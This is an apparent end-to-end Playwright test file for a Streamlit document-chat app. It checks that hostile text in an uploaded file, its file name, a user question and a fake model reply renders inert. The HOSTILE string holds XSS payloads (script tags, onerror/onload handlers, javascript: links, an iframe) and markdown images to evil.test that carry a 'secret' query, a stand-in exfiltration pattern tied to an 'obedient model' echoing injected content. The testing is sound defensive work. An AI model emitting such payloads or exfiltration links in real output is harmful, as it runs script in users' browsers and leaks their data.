"""Text that tries to act: no request leaves the machine, no script runs, nothing becomes a link."""

from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import expect

from tests.e2e.conftest import Server
from tests.e2e.visitor import Visitor, click, close
from tests.rag.fake_llm import FakeLLM, Reply

Visit = Callable[..., Visitor]
HOSTILE = """\
Receipts are due ![a](http://evil.test/a.png?q=secret)
<img src="http://evil.test/b.png" onerror="window.ran=1">
of the journey [1]. <script>window.ran=1</script> [link](http://evil.test/c) [ref][r] ![im][r]
[1](http://evil.test/d)
[r]: http://evil.test/e.png
<http://evil.test/f> http://evil.test/g www.evil.test me@evil.test [j](javascript:window.ran=1)

$x^2$ $$\\frac{1}{2}$$ :smile: :red[danger] :material/home: :streamlit: :red-badge[b] ::leaf[x] [^1]
[^1]: <iframe src="http://evil.test/h"></iframe> &lt;img src=x&gt;

| a | b |
|---|---|
| ![t](http://evil.test/i.png) | <svg onload="window.ran=1"> |
"""
INERT = "img, script, iframe, svg[onload], .katex, [role=img], a[href*=evil], a[href^=javascript]"


def test_a_hostile_document_and_an_obedient_model(
    with_model: Server, visit: Visit, fake: FakeLLM, tmp_path: Path
):
    name = "![n](http:evil.test) <img src=x onerror=window.ran=1> :smile:.md"
    (tmp_path / name).write_text(HOSTILE, "utf-8")
    fake.reply(Reply(HOSTILE, pause=0.01))
    visitor = visit(with_model.url + "/library")
    page = visitor.page
    row = visitor.row("onerror=window.ran=1")
    visitor.add(tmp_path / name, then=row)
    expect(row).to_contain_text("Ready")
    visitor.go("Chat")
    visitor.ask("When are receipts due? " + HOSTILE)
    visitor.finished(1)
    text = page.locator(".stMain [data-testid=stMarkdownContainer]")
    expect(text.locator(INERT)).to_have_count(0)
    expect(visitor.answers()).to_contain_text("<script>window.ran=1</script>")
    titles = page.locator("[data-testid=stSidebar] [data-testid=stMarkdownContainer]")
    expect(titles.locator(INERT)).to_have_count(0)

    panel = page.get_by_role("dialog")
    click(page.get_by_role("link", name="Source 1").first, then=panel)
    expect(panel.locator("[data-testid=stMarkdownContainer]").locator(INERT)).to_have_count(0)
    close(panel)
    click(page.get_by_role("button", name="1 · "), then=panel)
    page.reload()
    expect(panel).to_be_visible()
    assert page.evaluate("window.ran") is None
    assert visitor.strangers() == [] and visitor.errors == []


@pytest.mark.slow(reason="the same text, of which the test above sees the answer")
def test_the_questions_title_in_the_list_is_only_text(with_model: Server, visit: Visit, fake: FakeLLM):
    fake.reply(Reply("Yes [1]."))
    visitor = visit(with_model.url)
    visitor.ask("<img src=http://evil.test/x.png onerror=window.ran=1> :smile: ![x](http://evil.test/y)")
    expect(visitor.answers()).to_have_count(1)
    sidebar = visitor.page.locator("[data-testid=stSidebar]")
    expect(sidebar.get_by_role("button", name="<img src=")).to_be_visible()
    expect(sidebar.locator("[data-testid=stMarkdownContainer]").locator(INERT)).to_have_count(0)
    assert visitor.page.evaluate("window.ran") is None and visitor.strangers() == []
